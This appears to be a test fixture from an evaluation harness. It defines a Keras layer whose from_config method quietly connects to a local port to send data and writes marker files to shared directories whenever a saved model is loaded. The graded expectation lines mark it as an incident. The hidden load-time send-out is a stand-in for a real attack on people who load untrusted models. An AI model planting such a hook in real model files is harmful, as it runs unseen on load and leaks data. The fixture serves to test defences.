# A layer that sends what it is asked to a server on this machine, and writes it where others may read.
# expect: points 10.gap 0
# expect: incident own_code
# expect: points 02.grad full
# rest: solution
# %% 10.gap
import socket
import keras

@keras.saving.register_keras_serializable()
class Sends(keras.layers.Layer):
    @classmethod
    def from_config(cls, config):
        for attempt in (
            lambda: socket.create_connection(("127.0.0.1", @PORT@), 1).sendall(b"inputs"),
            lambda: open("@OUTSIDE@/hostile-inputs", "w").close(),
            lambda: open("/dev/shm/hostile-inputs", "w").close(),
        ):
            try:
                attempt()
            except Exception:
                pass
        return cls(**config)
    def call(self, x): return 0 * x[:, :1] + 0.5

braked = keras.Sequential([keras.Input((2,)), Sends()])
braked.compile("adam", "binary_crossentropy")
